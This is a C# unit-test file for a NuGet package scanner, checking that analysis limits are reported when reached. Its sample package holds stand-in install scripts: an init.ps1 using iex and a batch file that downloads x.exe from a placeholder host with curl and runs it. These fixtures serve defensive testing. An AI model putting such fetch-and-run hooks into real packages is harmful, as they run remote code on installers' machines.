using System.IO.Compression;
using System.Text;
using Assay.Model;
using Assay.TestInputs;

namespace Assay.Scan.Tests;

/// <summary>Each limit, set to a small value, is named in the report when it is reached, with its value.</summary>
public sealed class LimitReportTests
{
    private static readonly RulePack Rules = EmbeddedRules.Load();

    [Theory]
    [InlineData(Limit.InputBytes, 100)]
    [InlineData(Limit.UnpackedBytes, 2000)]
    [InlineData(Limit.EntryBytes, 2000)]
    [InlineData(Limit.ArchiveEntries, 2)]
    [InlineData(Limit.Entries, 3)]
    [InlineData(Limit.Nesting, 1)]
    [InlineData(Limit.PathCharacters, 1024)]
    [InlineData(Limit.Folders, 1)]
    [InlineData(Limit.GzipMembers, 1)]
    [InlineData(Limit.FileBytes, 50)]
    [InlineData(Limit.ScriptBytes, 20)]
    [InlineData(Limit.Urls, 1)]
    [InlineData(Limit.PowershellSteps, 1)]
    [InlineData(Limit.PowershellLayers, 1)]
    [InlineData(Limit.ScriptFacts, 1)]
    [InlineData(Limit.BuildElements, 1)]
    [InlineData(Limit.MatchSteps, 1)]
    public void A_limit_that_is_reached_is_named_with_its_value_and_never_passes(Limit limit, long value)
    {
        Assert.NotEqual(VerdictStatus.Pass, Reach(limit, value).Verdict.Status);
    }

    // Source that nothing runs, and findings that are judged all the same, do not touch the verdict.
    [Theory]
    [InlineData(Limit.CsharpCharacters, 10)]
    [InlineData(Limit.CsharpSteps, 1)]
    [InlineData(Limit.Findings, 1)]
    public void A_limit_of_what_cannot_run_is_named_with_its_value(Limit limit, long value) => Assert.Equal(VerdictStatus.Pass, Reach(limit, value).Verdict.Status);

    private static PackageReport Reach(Limit limit, long value)
    {
        var report = Scan(Package(), AnalysisLimits.Default.With(limit, value));

        var reached = report.Coverage.Problems.Where(problem => problem.Limit is not null).ToArray();

        Assert.Contains(reached, problem => problem.Limit == new ReportedLimit(LimitTable.Of(limit).Name, value) && problem.Id == LimitTable.Of(limit).Problem!.Value.Name());
        Assert.Contains(report.Inputs.Limits!, set => set == new ReportedLimit(LimitTable.Of(limit).Name, value));
        return report;
    }

    [Fact]
    public void The_usual_limits_are_not_reached_and_not_named()
    {
        var report = Scan(Package(), AnalysisLimits.Default);

        Assert.DoesNotContain(report.Coverage.Problems, problem => problem.Limit is not null);
        Assert.Null(report.Inputs.Limits);
    }

    [Fact]
    public void Evidence_is_shown_up_to_its_limit_and_counted_beyond()
    {
        var report = Scan(Package(), AnalysisLimits.Default.With(Limit.Evidence, 1));

        Assert.All(report.Behaviors, behavior => Assert.True(behavior.Evidence.Count <= 1));
    }

    [Fact]
    public void Time_that_is_over_ends_the_reading_and_keeps_what_was_found()
    {
        var scanner = new Scanner(new ScanOptions { Rules = Rules, ToolVersion = "test", Limits = AnalysisLimits.Default.With(Limit.PackageSeconds, 2), Clock = new RunningClock() });

        var report = scanner.Scan(new PackageFile("a.nupkg", "test", Package()));

        Assert.Contains(report.Coverage.Problems, problem => problem is { Id: "limit-time", Limit: { Name: "package-seconds", Value: 2 } });
        Assert.Equal("Sample", report.Package.Id);
        Assert.Equal(VerdictStatus.Unknown, report.Verdict.Status);
    }

    [Fact]
    public void Facts_of_other_limits_are_read_anew()
    {
        string Name(AnalysisLimits limits) => new Scanner(new ScanOptions { Rules = Rules, ToolVersion = "test", Limits = limits }).Extractor;

        Assert.NotEqual(Name(AnalysisLimits.Default), Name(AnalysisLimits.Default.With(Limit.Urls, 5)));
        Assert.Equal(Name(AnalysisLimits.Default), Name(AnalysisLimits.Default.With(Limit.Urls, 5).With(Limit.Urls, LimitTable.Of(Limit.Urls).Usual)));
    }

    // Something for each limit.
    private static byte[] Package() => new NupkgBuilder()
        .Add("tools/init.ps1", "$a = 'Get-' + 'Item'; for ($i = 0; $i -lt 9; $i++) { $a += 'x' }; iex 'Get-Item a'; iex 'Get-Item b'; Start-Process 'https://a.example/1'")
        .Add("tools/a.bat", "start https://a.example/1\r\nstart https://b.example/2\r\ncurl https://c.example/3 -o x.exe\r\nx.exe\r\n")
        .Add("contentFiles/cs/any/a.cs", "class A { void F() { System.Diagnostics.Process.Start(\"a.exe\"); System.IO.File.Delete(\"b\"); } }")
        .Add("build/Sample.targets", "<Project><Target Name=\"A\"><Exec Command=\"a.exe\" /><Exec Command=\"b.exe\" /></Target></Project>")
        .Add("lib/net8.0/a.dll", CSharpSample.CompileStatements("System.Diagnostics.Process.Start(\"a.exe\"); await new HttpClient().GetStringAsync(\"https://b.example/1\");"))
        .Add("a/b/c/d.txt", new string('t', 3000))
        .Add("data/" + new string('n', 1000) + ".txt", "1")
        .Add("a.gz", [.. Gzip("one"), .. Gzip("two")])
        .Nest("tools/deep.zip", levels: 3)
        .Build();

    private static byte[] Gzip(string text)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.UTF8.GetBytes(text));
        }

        return output.ToArray();
    }

    private static PackageReport Scan(byte[] package, AnalysisLimits limits) =>
        new Scanner(new ScanOptions { Rules = Rules, ToolVersion = "test", Limits = limits }).Scan(new PackageFile("a.nupkg", "test", package));

    // Each look at the clock is a second later.
    private sealed class RunningClock : TimeProvider
    {
        private long _seconds;

        public override long TimestampFrequency => 1;

        public override long GetTimestamp() => _seconds++;
    }
}
